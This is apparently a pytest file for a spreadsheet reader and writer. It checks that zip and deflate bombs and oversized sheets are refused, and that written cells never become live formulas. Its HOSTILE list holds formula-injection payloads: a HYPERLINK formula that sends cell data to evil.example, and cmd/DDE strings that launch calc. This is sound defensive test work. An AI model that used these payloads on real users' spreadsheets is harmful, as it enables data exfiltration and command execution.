"""The bounded .xlsx reader refuses bombs fast; the writers never emit a live formula."""

from __future__ import annotations

import csv
import io
import time
from datetime import datetime

import pytest
from openpyxl import load_workbook

from ecuapass.core.spreadsheets import (
    MB,
    ReadLimits,
    SpreadsheetError,
    XlsxBook,
    csv_response,
    read_xlsx,
)

from . import upload_bombs as bombs

LIMITS = ReadLimits(max_rows=2_000, max_cells=30_000, max_uncompressed=20 * MB, max_columns=12)
HEADER = ["Subpartida", "Descripción", "Fecha"]
ROWS = [["0901.21.10.00", "Café", datetime(2025, 1, 2)], ["8471.30.00.00", "Laptops", None]]


def read(data: bytes, limits: ReadLimits = LIMITS):
    return list(read_xlsx(io.BytesIO(data), limits))


def refused(data: bytes, limits: ReadLimits = LIMITS) -> SpreadsheetError:
    started = time.process_time()
    with pytest.raises(SpreadsheetError) as caught:
        read(data, limits)
    elapsed = time.process_time() - started
    assert elapsed < 5, f"refused after {elapsed:.1f} s"
    return caught.value


def test_genuine_workbook_reads_rows_with_their_numbers_and_types():
    rows = read(bombs.workbook(HEADER, ROWS))
    assert rows == [
        (1, tuple(HEADER)),
        (2, ("0901.21.10.00", "Café", datetime(2025, 1, 2))),
        (3, ("8471.30.00.00", "Laptops")),
    ]


def test_declared_dimension_is_not_read():
    """A1:L99999999 declared, two rows present: two rows read, at once."""
    started = time.process_time()
    rows = read(bombs.declared_dimension(bombs.workbook(HEADER, ROWS)))
    assert time.process_time() - started < 5
    assert [n for n, _values in rows] == [1, 2, 3]


def test_millions_of_empty_rows_are_refused_by_their_uncompressed_size():
    data = bombs.empty_rows(bombs.workbook(HEADER, ROWS), 5_000_000)
    assert len(data) < MB // 4  # small on the wire…
    assert refused(data).code == "too_large"  # …but 30 MB of XML


def test_empty_rows_count_toward_the_row_cap():
    error = refused(bombs.empty_rows(bombs.workbook(HEADER, ROWS), 5_000))
    assert error.code == "too_many_rows"
    assert "2000 filas" in str(error) and "vacías" in str(error)


def test_a_row_far_below_is_refused_without_walking_the_gap():
    assert refused(bombs.far_row(bombs.workbook(HEADER, ROWS))).code == "too_many_rows"


def test_empty_cells_count_toward_the_cell_cap():
    assert refused(bombs.wide_row(bombs.workbook(HEADER), 40_000)).code == "too_many_cells"


def test_prefixed_sheet_is_read_and_counted_the_same():
    rows = read(bombs.prefixed(bombs.workbook(HEADER), HEADER, empty_cells=3))
    assert rows == [(1, tuple(HEADER)), (2, (None, None, None))]
    assert refused(bombs.prefixed(bombs.workbook(HEADER), HEADER, 40_000)).code == "too_many_cells"


def test_deflate_bomb_is_refused_from_its_declared_size():
    data = bombs.deflate_bomb(bombs.workbook(HEADER, ROWS), 64)
    assert len(data) < MB
    assert refused(data).code == "too_large"


def test_lying_member_size_is_refused_from_what_it_really_inflates_to():
    data = bombs.lying_size(bombs.workbook(HEADER, ROWS), declared=50)
    assert refused(data).code == "invalid"


def test_malformed_sheet_xml_is_an_invalid_file_not_a_parse_error():
    error = refused(bombs.malformed(bombs.workbook(HEADER, ROWS)))
    assert error.code == "invalid" and "no es un libro de Excel" in str(error)


@pytest.mark.parametrize("data", [b"", b"not a zip", b"PK\x03\x04garbage"])
def test_not_a_workbook(data):
    assert refused(data).code == "invalid"


def test_cells_right_of_max_columns_are_dropped_but_counted():
    wide = bombs.workbook([f"c{i}" for i in range(20)])
    ((number, values),) = read(wide, ReadLimits(10, 100, MB, max_columns=5))
    assert number == 1 and values == ("c0", "c1", "c2", "c3", "c4")
    assert refused(wide, ReadLimits(10, 19, MB, max_columns=5)).code == "too_many_cells"


# --- writing ----------------------------------------------------------------------------------

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
]


def test_xlsx_text_is_never_a_formula_and_keeps_its_exact_text():
    book = XlsxBook()
    sheet = book.sheet("Datos", header=["=titulo", "valor"], widths=[20, 10])
    for text in HOSTILE:
        sheet.append([text, 1.5])
    sheet.append(["con \x01control", None])
    ws = load_workbook(io.BytesIO(book.to_bytes())).active
    cells = [cell for row in ws.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    # (XML reads a CR as a line feed: the text is otherwise exactly what was written.)
    expected = [text.replace("\r", "\n") for text in HOSTILE]
    assert [ws.cell(row=i, column=1).value for i in range(2, 2 + len(HOSTILE))] == expected
    assert all(ws.cell(row=i, column=1).quotePrefix for i in range(2, 2 + len(HOSTILE)))
    assert ws.cell(row=2, column=2).value == 1.5 and ws.cell(row=2, column=2).data_type == "n"
    assert ws["A1"].value == "=titulo" and ws["A1"].font.b
    assert ws.cell(row=2 + len(HOSTILE), column=1).value == "con control"


def test_csv_text_that_would_run_gets_an_apostrophe():
    response = csv_response(["No", "=titulo"], [[1, text, "normal"] for text in HOSTILE], "x")
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == ["No", "'=titulo"]
    assert [row[1] for row in rows[1:]] == ["'" + t for t in HOSTILE]
    assert {row[0] for row in rows[1:]} == {"1"} and {row[2] for row in rows[1:]} == {"normal"}
